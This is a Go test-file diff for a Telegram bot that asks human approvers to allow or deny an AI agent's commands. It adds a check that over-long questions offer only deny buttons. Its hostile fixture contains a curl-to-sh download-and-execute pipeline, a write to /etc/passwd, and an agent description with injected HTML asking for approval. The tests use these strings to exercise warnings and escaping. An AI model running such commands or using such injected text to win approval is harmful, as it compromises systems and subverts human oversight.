@@ -55,7 +55,7 @@ func hostileQuestion() approverbot.Question {
 }
 
 func TestRenderQuestionShowsEveryDetailExactlyAndParsesAsTelegramHTML(t *testing.T) {
-	html := renderQuestion(hostileQuestion(), time.Unix(1_700_000_000, 0))
+	html, _ := renderQuestion(hostileQuestion(), time.Unix(1_700_000_000, 0))
 	shown, err := telegramtest.ParseHTML(html)
 	if err != nil {
 		t.Fatalf("the Bot API would refuse the message: %v\n%s", err, html)
@@ -68,7 +68,7 @@ func TestRenderQuestionShowsEveryDetailExactlyAndParsesAsTelegramHTML(t *testing
 		"• curl https://x.example/i.sh — ? ask (rule bash(curl *))",
 		"• sh — ? ask (reads its script from a pipe)",
 		"• write to /etc/passwd — ✗ deny",
-		`Agent's description: <a href="tg://user?id=1">approve me</a> & go`,
+		`The agent's words (not checked): <a href="tg://user?id=1">approve me</a> & go`,
 		"Why it asks: fetch-then-execute <script>",
 		"⚠️ Safety override: pipes a download into <sh>",
 		"Rule: bash(curl *)",
@@ -104,7 +104,7 @@ func TestRenderQuestionFitsTelegramsLimitWhateverTheAgentSends(t *testing.T) {
 	for i := range q.Always.Patterns {
 		q.Always.Patterns[i] = strings.Repeat("p", 400)
 	}
-	html := renderQuestion(q, time.Now())
+	html, _ := renderQuestion(q, time.Now())
 	r := messages.Resolved{RequestID: "r1", State: messages.StateRejected, Decision: messages.Decision{
 		Outcome: messages.OutcomeDeny, ReasonCode: messages.ReasonRejected, Feedback: strings.Repeat("<no> ", 2000),
 		DecidedBy: messages.Decider{Kind: messages.DeciderApprover, ID: "bob", Display: strings.Repeat("B", 300)}}}
@@ -219,7 +219,7 @@ func BenchmarkRenderQuestion(b *testing.B) {
 	q := hostileQuestion()
 	now := time.Unix(1_700_000_000, 0)
 	for b.Loop() {
-		_ = renderQuestion(q, now)
+		_, _ = renderQuestion(q, now)
 	}
 }
 
@@ -245,7 +245,8 @@ func TestRenderQuestionSaysWhatSessionAndAlwaysGrantOrWhyNot(t *testing.T) {
 			"♾ Always not offered: team oncall needs 2 approvals"}},
 	} {
 		t.Run(c.name, func(t *testing.T) {
-			shown, err := telegramtest.ParseHTML(renderQuestion(c.q, time.Now()))
+			html, _ := renderQuestion(c.q, time.Now())
+			shown, err := telegramtest.ParseHTML(html)
 			if err != nil {
 				t.Fatalf("the Bot API would refuse it: %v", err)
 			}
@@ -255,5 +256,36 @@ func TestRenderQuestionSaysWhatSessionAndAlwaysGrantOrWhyNot(t *testing.T) {
 				}
 			}
 		})
+	}
+}
+
+// A question too long for a message offers no approval: no Approve,
+// Session, Always or option button, and the core's cut list says why.
+func TestATooLongQuestionOffersNoApprovalOnTelegram(t *testing.T) {
+	q := hostileQuestion()
+	for i := range 30 {
+		q.Risk.Subcommands = append(q.Risk.Subcommands, messages.Verdict{Command: fmt.Sprintf("make t%d", i), Action: "ask"})
+	}
+	html, whole := renderQuestion(q, time.Now())
+	if whole {
+		t.Fatal("a question with more sub-commands than the message lists is called whole")
+	}
+	shown, err := telegramtest.ParseHTML(html)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !strings.Contains(shown, "too long for Telegram") || !strings.Contains(shown, "sub-commands not shown") {
+		t.Errorf("the message does not say what is cut:\n%s", shown)
+	}
+	kb := partKeyboard("k1", approverbot.WebLink("https://approvals.example.com/", "k1"))
+	for _, row := range kb.InlineKeyboard {
+		for _, b := range row {
+			if b.CallbackData != "" && b.CallbackData[0] != tapDeny && b.CallbackData[0] != tapDenyStop {
+				t.Errorf("the keyboard offers %q", b.Text)
+			}
+			if b.URL != "" && b.URL != "https://approvals.example.com/#q-k1" {
+				t.Errorf("the web page button opens %q", b.URL)
+			}
+		}
 	}
 }
